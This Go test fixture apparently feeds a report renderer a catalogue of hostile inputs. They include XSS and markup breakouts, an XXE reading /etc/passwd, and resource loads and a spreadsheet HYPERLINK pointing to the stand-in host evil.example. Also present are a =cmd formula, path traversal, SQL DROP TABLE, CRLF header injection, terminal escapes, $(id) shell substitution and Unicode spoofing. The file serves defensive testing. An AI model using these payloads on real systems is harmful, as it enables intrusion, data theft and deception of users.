package reporttest

import "strings"

// Payload is a string that attacks whoever shows it.
type Payload struct {
	// Name is a name for a test.
	Name string
	Text string
}

// What payloads do if they are not stopped: scripts call alert, markup makes an element
// [Element], and whatever is loaded comes from [Host], which nobody has.
const (
	Element = "detonaut-injected"
	Host    = "evil.example"
)

// Payloads are strings that attack pages, style sheets, addresses, spreadsheets, terminals,
// databases, headers and the eye. None does harm.
func Payloads() []Payload {
	var all []Payload
	for _, some := range [][]Payload{markup(), scripts(), loads(), places(), otherReaders(), letters(), sizes()} {
		all = append(all, some...)
	}
	return all
}

// markup breaks out of text, attributes and elements.
func markup() []Payload {
	const e = "<" + Element + ">"
	return []Payload{
		{"element", e + "x</" + Element + ">"},
		{"script", "<script>alert(1)</script>"},
		{"script ends", "</script><script>alert(1)</script>" + e},
		{"style ends", "</style>" + e + "<style>*{display:none}"},
		{"title ends", "</title>" + e},
		{"textarea ends", "</textarea>" + e},
		{"svg ends", "</text></svg>" + e},
		{"comment", "--><!-->" + e + "<!--"},
		{"cdata", "]]>" + e + "<![CDATA["},
		{"double quote", `"><` + Element + ` x="`},
		{"single quote", `'><` + Element + ` x='`},
		{"backquote", "`><" + Element + " x=`"},
		{"no quote", "x " + Element + "=1 onmouseover=alert(1) >" + e},
		{"entities", "&lt;script&gt;alert(1)&lt;/script&gt;&#60;" + Element + "&#62;&quot;&apos;&amp;"},
		{"half", "<script src=//" + Host + "/x.js "},
		{"case", "<ScRiPt>alert(1)</sCrIpT><IMG SRC=x OnErRoR=alert(1)>"},
		{"malformed", "<<script>alert(1)//<</script>" + `<img """><script>alert(1)</script>">` + "<" + Element + "\x0c/x>"},
		{"processing", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;" + e},
	}
}

// scripts run without an element of their own.
func scripts() []Payload {
	return []Payload{
		{"image error", `"><img src=x onerror=alert(1)>`},
		{"svg load", `<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>`},
		{"handler double", `" autofocus onfocus="alert(1)" x="`},
		{"handler single", `' autofocus onfocus='alert(1)' x='`},
		{"details", `<details open ontoggle=alert(1)><summary>x</summary></details>`},
		{"javascript", "javascript:alert(1)"},
		{"javascript hidden", " \tjava\nscript&colon;alert(1)"},
		{"javascript case", "JaVaScRiPt://%0aalert(1)//"},
		{"vbscript", "vbscript:msgbox(1)"},
		{"data", "data:text/html,<script>alert(1)</script>"},
		{"string double", `";alert(1);//`},
		{"string single", `';alert(1);//`},
		{"string escape", `\";alert(1);//\`},
		{"template string", "${alert(1)}`;alert(1)//"},
		{"braces", "{{.}}{{alert(1)}}{{constructor.constructor('alert(1)')()}}{% raw %}#{7*7}<%= 7*7 %>[[${7*7}]]"},
		{"prototype", "__proto__"},
	}
}

// loads fetch something, or go somewhere.
func loads() []Payload {
	const at = "//" + Host
	return []Payload{
		{"address", "https://" + Host + "/"},
		{"address without scheme", at + "/x"},
		{"frames", "<iframe src=" + at + "></iframe><object data=" + at + "></object><embed src=" + at + ">"},
		{"images", "<img src=" + at + "/x.png><video poster=" + at + "/x.png src=" + at + "/x.mp4 autoplay></video>"},
		{"link", "<link rel=stylesheet href=" + at + "/x.css><link rel=preload as=image href=" + at + "/x.png>"},
		{"base", "<base href=https:" + at + "/>"},
		{"refresh", "<meta http-equiv=refresh content='0;url=https:" + at + "/'>"},
		{"form", "<form action=https:" + at + "/><input name=x autofocus><button>Sign in</button></form>"},
		{"use", "<svg><use href=" + at + "/x.svg#x></use><image href=" + at + "/x.png></image></svg>"},
		{"style url", "red;background:url(https:" + at + "/x.png)"},
		{"style import", "}@import 'https:" + at + "/x.css';*{display:none}"},
		{"style attribute", `x" style="position:fixed;inset:0;background:red" y="`},
		{"markdown", "[x](javascript:alert(1)) ![x](https:" + at + "/x.png) <https:" + at + "/> `` **x** | y |\n---\n# x"},
	}
}

// places are addresses and paths that mean something else.
func places() []Payload {
	return []Payload{
		{"dots", "../../../../../../etc/passwd"},
		{"dots encoded", "..%2f..%2f%2e%2e/%252e%252e/etc/passwd"},
		{"backslash", `..\..\windows\win.ini`},
		{"query", "x?y=1&z=2#fragment;p=1"},
		{"percent", "%00%0d%0a%zz%u0041%"},
		{"authority", "user:password@" + Host + ":99999"},
		{"slashes", "///a//b/"},
		{"only dot", "."},
		{"blank", " "},
	}
}

// otherReaders are for what a report is copied to: a spreadsheet, a terminal, a database, a
// header, a log.
func otherReaders() []Payload {
	return []Payload{
		{"formula", `=HYPERLINK("https://` + Host + `/","x")`},
		{"formula command", "=cmd|'/C calc'!A1"},
		{"formula plus", "+1+1"},
		{"formula minus", "-1+1"},
		{"formula at", "@SUM(1,1)"},
		{"formula tab", "\t=1+1"},
		{"formula quoted", `x","=1+1`},
		{"sql", "'; DROP TABLE report; --"},
		{"sql like", `%_\'"*`},
		{"search", `verdict:clean OR "a" AND (NOT b) c* NEAR/2 -d`},
		{"header", "x\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>"},
		{"event stream", "x\n\nevent: state\ndata: {\"state\":\"done\"}\n\n"},
		{"lines", "x\nERROR forged=true\nx\rY\vZ\fA"},
		{"terminal", "\x1b[2J\x1b]0;x\x07\x1b[31mred\x1b]8;;https://" + Host + "\x1b\\x\x9b1m"},
		{"format", "%s%n%d%!v(MISSING)"},
		{"shell", "$(id)`id`;id|id&id"},
	}
}

// letters deceive the eye, or whoever counts them.
func letters() []Payload {
	return []Payload{
		{"nul", "a\x00b"},
		{"controls", "a\x01\x02\x08\x0b\x0e\x1f\x7f\u0080\u009fb"},
		{"override", "\u202Egnp.exe\u202D abc\u202C"},
		{"isolates", "\u2066\u2067\u2068x"},
		{"marks", "\u200E\u200F\u061Cx"},
		{"right to left", "\u05D0\u05D1\u05D2 \u0627\u0644\u0639"},
		{"zero width", "a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf\u00ADg"},
		{"invisible only", "\u200B\u2060\u3164\u115F\u2800"},
		{"tags", "x\U000E0041\U000E0042\U000E007F"},
		{"variation", "x\uFE0F\U000E0100y"},
		{"separators", "a\u2028b\u2029c\u0085d"},
		{"blanks", "a\u00A0b\u2003c\u3000d"},
		{"stack", "z" + strings.Repeat("\u0300\u0321\u0489", 60)},
		{"wide", "\uFDFD\U0001242B\uA9C5"},
		{"private", "\uE000\U000F0000\U0010FFFF\uFFFE\uFFFD"},
		{"confusable", "p\u0430yp\u0430l"},
		{"emoji", "\U0001F468\u200D\U0001F469\u200D\U0001F467 \U0001F1E9\U0001F1EA"},
		{"bytes", "a\xff\xfe\x80b\xc0\xafc\xed\xa0\x80d\xf4\x90\x80\x80e\xc3"},
	}
}

// sizes are long.
func sizes() []Payload {
	return []Payload{
		{"long word", strings.Repeat("A", 5000)},
		{"long text", strings.Repeat("lorem ipsum ", 500)},
		{"long lines", strings.Repeat("x\n", 2500)},
		{"long wide", strings.Repeat("\u6F22", 2000)},
		{"long path", "/" + strings.Repeat("directory/", 400) + "file"},
		{"long markup", strings.Repeat("<b>", 1500)},
		{"long quotes", strings.Repeat(`"'&<>`, 1000)},
	}
}
